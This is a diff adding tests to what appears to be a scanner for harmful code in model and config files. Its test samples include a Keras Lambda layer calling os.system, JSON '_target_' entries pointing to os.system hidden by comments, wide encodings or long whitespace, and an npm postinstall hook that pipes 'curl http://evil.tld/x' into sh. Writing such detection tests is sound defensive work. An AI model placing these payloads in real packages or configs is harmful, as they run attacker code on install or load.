@@ -51,3 +51,38 @@ def test_what_cannot_be_read_is_said(name: str, data: bytes, reason: str) -> Non
 
 def test_template_for_yaml_is_no_yaml_yet() -> None:
     assert examine(b"{% set x = 1 %}\na: {{ x }}: b\n", "meta.yaml").verdict is Verdict.CLEAN
+
+
+def test_keras_model_as_yaml_runs_its_lambda() -> None:
+    sample = (
+        b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n"
+        b"      function: system\n      module: os\n"
+    )
+    assert "harmful-code" in rules(sample, "model.yaml")
+    assert rules(b"class_name: MyTrainer\nconfig: {}\n", "train.yaml") == []
+
+
+def test_commands_that_npm_runs_on_install() -> None:
+    sample = b'{"scripts": {"postinstall": "curl http://evil.tld/x | sh", "test": "jest"}}'
+    assert rules(sample, "package.json") == ["harmful-code"]
+    assert rules(b'{"scripts": {"postinstall": "node build.js"}}', "package.json") == []
+
+
+def test_json_behind_a_comment_is_read() -> None:
+    assert rules(b'// x\n{"_target_": "os.system"}', "config.json") == ["harmful-code"]
+
+
+def test_json_in_wide_characters_is_read() -> None:
+    assert rules('{"_target_": "os.system"}'.encode("utf-32"), "config.json") == ["harmful-code"]
+
+
+def test_json_behind_very_many_blanks_is_read() -> None:
+    data = b" " * 5000 + b'{"_target_": "os.system"}'
+    assert rules(data, "config.json") == ["harmful-code"]
+    assert rules(b"\n" * (9 << 20) + b'{"_target_": "os.system"}', "config.json") == ["harmful-code"]
+
+
+def test_program_of_paddle_is_read_whatever_stands_before_it() -> None:
+    program = b'"base_code": {"magic": "pir"}, "program": {"#": "1.py_func", "I": [], "A": []}}'
+    for before in (b"{", b'{"padding": "' + b"x" * 5000 + b'", '):
+        assert rules(before + program, "model.json") == ["harmful-code"]
